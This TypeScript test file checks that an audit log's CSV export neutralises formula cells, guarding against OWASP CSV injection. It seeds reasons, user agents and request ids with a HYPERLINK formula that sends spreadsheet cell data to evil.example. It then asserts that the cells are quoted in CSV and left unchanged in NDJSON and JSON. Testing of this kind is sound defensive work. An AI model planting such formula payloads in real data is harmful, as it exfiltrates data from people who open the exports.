import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { MemoryEventStore } from '@access-audit/event-store';
import { AuditLog } from './audit-log';
import { canonicalJson } from './canonical-json';
import { deniedTeamCommand } from './denial';
import { auditStreamId } from './entry';
import { CheckpointSigner } from './signing';
import { at, mustRun, run } from './testing/audit-fixtures';
import { verifyNdjson } from './verify-ndjson';

const signer = CheckpointSigner.generate();
const leads = ['=', '+', '-', '@', '\t', '\r'];
const formula = (lead: string): string => `${lead}HYPERLINK("https://evil.example/?"&A1,"open")`;

const text = async (stream: Readable): Promise<string> => {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(Buffer.from(chunk));
  return Buffer.concat(chunks).toString('utf8');
};

/** OWASP CSV injection: reasons, user agents and request ids of changes and of refusals are what callers send. */
describe('audit CSV export and formula cells', () => {
  let store: MemoryEventStore;
  let audit: AuditLog;

  beforeAll(async () => {
    store = new MemoryEventStore();
    audit = new AuditLog({ store, signer, indexPath: ':memory:' });
    await mustRun(store, {
      type: 'CreateTeam',
      teamId: 'csv',
      data: { name: 'Csv', plan: 'enterprise' },
      metadata: at('alice'),
    });
    for (const [index, lead] of leads.entries()) {
      const hostile = { ip: '203.0.113.7', userAgent: formula(lead), requestId: formula(lead) };
      const added = await run(
        store,
        {
          type: 'AddMember',
          teamId: 'csv',
          data: { userId: `u${index}`, role: 'developer' },
          metadata: at('alice', formula(lead)),
        },
        hostile,
      );
      if (!added.ok) throw new Error(added.rejection.message);
      const refused = {
        type: 'AddMember' as const,
        teamId: 'csv',
        data: { userId: `x${index}`, role: 'owner' as const },
        metadata: at(`u${index}`, formula(lead)),
      };
      const outcome = await run(store, refused, hostile);
      if (outcome.ok) throw new Error('expected a refusal');
      await audit.catchUp();
      await audit.recordDenial(deniedTeamCommand(refused, outcome.rejection, hostile));
    }
    await mustRun(store, {
      type: 'AddMember',
      teamId: 'csv',
      data: { userId: 'plain', role: 'member' },
      metadata: at('alice', 'a=b, not a formula'),
    });
    await audit.catchUp();
  });
  afterAll(async () => {
    await audit.stop();
    await store.close();
  });

  it('puts a single quote before every reason, user agent and request id that starts with = + - @ tab or CR', async () => {
    const rows = parse(await text(await audit.export('csv', 'csv')), { columns: true }) as Array<
      Record<string, string>
    >;
    for (const [index, lead] of leads.entries()) {
      const change = rows.find((row) => row.kind === 'change' && row.target_user === `u${index}`)!;
      const denial = rows.find((row) => row.kind === 'denial' && row.target_user === `x${index}`)!;
      for (const row of [change, denial]) {
        expect({ lead, reason: row.reason, userAgent: row.user_agent, requestId: row.request_id }).toEqual({
          lead,
          reason: `'${formula(lead)}`,
          userAgent: `'${formula(lead)}`,
          requestId: `'${formula(lead)}`,
        });
      }
    }
    const plain = rows.find((row) => row.target_user === 'plain')!;
    expect(plain.reason).toBe('a=b, not a formula');
    // Numbers are not text cells: left as they are.
    expect(rows.map((row) => row.sequence)).toEqual(rows.map((_, index) => String(index + 1)));
  });

  it('leaves the NDJSON export byte for byte as recorded, and it still verifies', async () => {
    const ndjson = await text(await audit.export('csv', 'ndjson'));
    const recorded = (await store.readStream(auditStreamId('csv'))).map((event) => `${canonicalJson(event.data)}\n`);
    expect(ndjson).toBe(recorded.join(''));
    for (const lead of leads) expect(ndjson).toContain(`"reason":${JSON.stringify(formula(lead))}`);
    expect(ndjson).not.toContain(`"'`);
    expect(await verifyNdjson(Readable.from([ndjson]), signer.publicKey)).toMatchObject({ valid: true });
  });

  it('leaves the JSON pages as recorded', () => {
    const entries = audit.page('csv', { actor: 'alice', type: 'team.member.added' }, 100).entries;
    expect(entries.slice(0, leads.length).map((entry) => entry.reason)).toEqual(leads.map(formula));
  });
});
